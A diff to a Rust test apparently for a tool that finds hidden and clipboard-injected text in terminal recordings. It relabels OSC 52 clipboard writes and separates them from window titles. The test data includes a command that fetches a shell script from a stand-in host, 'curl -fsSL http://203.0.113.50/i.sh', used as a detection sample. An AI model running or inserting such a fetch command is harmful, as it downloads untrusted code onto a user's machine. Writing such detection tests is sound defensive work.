@@ -94,7 +94,15 @@ fn erased_concealed_and_clipboard_text_is_found_and_says_so() {
     // The clipboard write (OSC 52), decoded.
     let (_, out, _) = grep(&w, &["-F", "203.0.113.50/i.sh", "--format", "tsv"]);
     let row: Vec<&str> = out.lines().next().expect(&out).split('\t').collect();
-    assert_eq!((row[0], row[6]), (M1, "osc"), "{out}");
+    assert_eq!((row[0], row[6]), (M1, "clipboard"), "{out}");
+    // A paste waiting to happen is told apart from a window title.
+    let (_, out, _) = grep(&w, &["-F", "203.0.113.50/i.sh", "--format", "table"]);
+    assert!(
+        out.contains(":[clipboard] curl -fsSL http://203.0.113.50/i.sh"),
+        "{out}"
+    );
+    let (_, out, _) = grep(&w, &["-F", "vim README.md", "--format", "table"]);
+    assert!(out.contains(":[title] vim README.md"), "{out}");
 }
 
 #[test]
